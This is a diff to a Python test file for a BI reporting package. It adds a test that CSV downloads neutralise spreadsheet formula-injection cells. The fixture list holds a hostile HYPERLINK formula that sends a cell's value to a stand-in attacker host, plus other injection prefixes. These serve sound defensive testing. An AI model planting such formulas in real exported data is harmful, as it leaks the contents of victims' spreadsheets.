@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import subprocess
 import sys
 from datetime import UTC, date, datetime
+from urllib.parse import unquote
 
 import pandas as pd
 import pytest
@@ -124,3 +127,15 @@ def test_a_report_kernel_imports_no_connector_to_show_its_header():
             "print(sorted(m for m in sys.modules if m.startswith(('statex_bi.sources', 'statex_bi.ingest', 'dlt'))))")
     result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert result.stdout.strip() == "[]"
+
+
+def test_csv_download_neutralises_formula_cells_and_says_so(shown):
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)", "+1+2", "-2+3", "\tcmd", "plain"]
+    frame = pd.DataFrame({"name": hostile, "delta": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0]})
+    display.table(frame, {"name": "Name", "delta": Column("Delta", "count")}, caption="Tests")
+    markup = shown[-1]
+    href = re.search(r'href="data:text/csv;charset=utf-8,([^"]*)"', markup).group(1)
+    rows = list(csv.reader(io.StringIO(unquote(href))))
+    assert [row[0] for row in rows[1:]] == ["'" + cell for cell in hostile[:5]] + ["plain"]
+    assert [row[1] for row in rows[1:]] == ["-1.5", "2.0", "-3.0", "4.0", "5.0", "6.0"]  # numbers stay numbers
+    assert "5 text cells starting with =, +, -, @" in _text(markup)
